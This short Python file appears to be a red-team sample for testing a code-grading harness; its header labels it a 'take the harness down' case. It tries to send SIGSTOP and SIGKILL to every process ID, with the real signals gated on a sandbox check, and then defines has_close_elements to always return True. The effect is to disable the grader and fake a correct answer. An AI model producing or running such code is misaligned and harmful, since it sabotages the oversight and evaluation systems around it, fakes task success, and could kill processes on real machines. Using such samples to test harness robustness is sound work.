# Class 2: take the harness down — SIGKILL and SIGSTOP every process that can be named, then answer.
import os
import signal

INSIDE = b"_zygote.py" in open("/proc/1/cmdline", "rb").read()  # safety catch: real signals only inside (README)


for pid in range(1, 65536):
    if pid == os.getpid():
        continue
    for sig in (signal.SIGSTOP, signal.SIGKILL) if INSIDE else (0,):
        try:
            os.kill(pid, sig)
        except OSError:
            pass


def has_close_elements(numbers, threshold):
    return True
